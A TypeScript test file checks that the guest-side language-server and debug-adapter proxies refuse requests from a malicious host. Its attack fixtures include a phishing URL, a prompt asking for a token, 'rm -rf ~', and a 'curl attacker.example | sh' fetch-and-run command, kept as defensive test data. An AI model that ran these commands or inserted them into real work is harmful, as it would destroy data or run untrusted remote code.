// A malicious host against a guest's editor and debug client (DESIGN §3, "malicious host attacks a guest"). The
// guest's side of a shared language server passes on only the requests an honest hub sends guests (refresh,
// progress, registrations): a host's applyEdit, showDocument (an external browser), showMessageRequest or a request
// no table knows is answered with an error and never reaches the editor. The guest's side of a debug session runs
// no reverse request at all (runInTerminal, startDebugging). The fake hosts here speak straight into the guest
// proxies, as a hostile host's mux streams would; each test's control shows that an honest message still arrives.
import type { EventEmitter } from 'node:events';
import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { createMessageConnection, StreamMessageReader, StreamMessageWriter } from 'vscode-jsonrpc/node.js';
import { Endpoint, type Event, type Request, type Response } from '../../src/dap/endpoint.js';
import { GuestDapProxy } from '../../src/dap/index.js';
import { GuestProxy } from '../../src/lsp/index.js';
import { GuestUris } from '../../src/policy/index.js';
import { PEER_LIMITS } from '../../src/wire/framed-peer.js';
import { duplexPair } from '../helpers/streams.js';
import { tmpdir } from '../helpers/tmp.js';
import { LspClient } from '../lsp/lsp-client.js';

const NOTHING_TO_FETCH = { materialise: async () => undefined };
const range = { start: { line: 0, character: 0 }, end: { line: 0, character: 0 } };

test("LSP: a host's requests that act on the guest's machine are refused; an honest hub's still reach the editor", async () => {
  const [hostSide, guestSide] = duplexPair();
  const host = createMessageConnection(new StreamMessageReader(hostSide), new StreamMessageWriter(hostSide));
  host.listen();
  const editor = LspClient.pair();
  const proxy = new GuestProxy(editor.input, editor.output, new GuestUris(tmpdir('lspair-hostile-lsp-')), NOTHING_TO_FETCH, 'ts');
  proxy.attach(guestSide);
  try {
    const attacks: [string, unknown][] = [
      ['window/showDocument', { uri: 'https://attacker.example/phish', external: true }],
      ['window/showDocument', { uri: 'lspair:/src/main.ts', takeFocus: true }],
      ['workspace/applyEdit', { edit: { changes: { 'lspair:/src/main.ts': [{ range, newText: 'x' }] } } }],
      ['window/showMessageRequest', { type: 1, message: 'Paste your token', actions: [{ title: 'OK' }] }],
      ['x/runOnGuest', { command: 'rm -rf ~' }],
      ['textDocument/hover', { textDocument: { uri: 'lspair:/src/main.ts' }, position: range.start }],
    ];
    for (const [method, params] of attacks) {
      await host.sendRequest(method, params).then(
        () => assert.unreachable(`${method} was answered`),
        (error: Error) => assert.match(error.message, /is never run on a guest's editor/, method),
      );
    }
    assert.is(await host.sendRequest('workspace/codeLens/refresh'), null, 'a refresh is answered (by the scripted editor)');
    assert.equal(editor.client.requests.map((r) => r.method), ['workspace/codeLens/refresh'], 'only the refresh reached the editor');
  } finally {
    proxy.close();
    host.dispose();
    editor.client.dispose();
  }
});

/** The next `name` event of `emitter`; a failure, not a hang, if none comes within 10 s. */
function next<T>(emitter: EventEmitter, name: string): Promise<T> {
  return new Promise((resolve, reject) => {
    const timer = setTimeout(() => reject(new Error(`no '${name}' within 10 s`)), 10_000);
    emitter.once(name, (value: T) => {
      clearTimeout(timer);
      resolve(value);
    });
  });
}

test("DAP: a host's reverse requests are refused and never reach the debug client; its events do", async () => {
  const [hostSide, guestSide] = duplexPair();
  const [clientSide, proxySide] = duplexPair();
  const host = new Endpoint(hostSide, hostSide, PEER_LIMITS.hostTool);
  const client = new Endpoint(clientSide, clientSide, PEER_LIMITS.hostTool);
  const reached: string[] = [];
  client.on('request', (req: Request) => reached.push(req.command));
  new GuestDapProxy(proxySide, proxySide, guestSide, new GuestUris(tmpdir('lspair-hostile-dap-')), NOTHING_TO_FETCH);
  try {
    const attacks: [string, unknown][] = [
      ['runInTerminal', { kind: 'external', cwd: '/', args: ['sh', '-c', 'curl attacker.example | sh'] }],
      ['startDebugging', { configuration: { type: 'python', request: 'launch', program: '/tmp/x.py' }, request: 'launch' }],
      ['x/anything', {}],
    ];
    for (const [command, args] of attacks) {
      const seq = host.send({ type: 'request', command, arguments: args });
      const answer = await next<Response>(host, 'response');
      assert.equal([answer.request_seq, answer.success], [seq, false], command);
      assert.match(String(answer.message), /is never run on a guest/, command);
    }
    host.send({ type: 'event', event: 'output', body: { category: 'console', output: 'hello\n' } });
    const event = await next<Event>(client, 'event');
    assert.equal([event.event, (event.body as { output?: string }).output], ['output', 'hello\n'], 'an event arrives');
    assert.equal(reached, [], 'no reverse request reached the client');
  } finally {
    client.close(null);
    host.close(null);
  }
});

test.run();
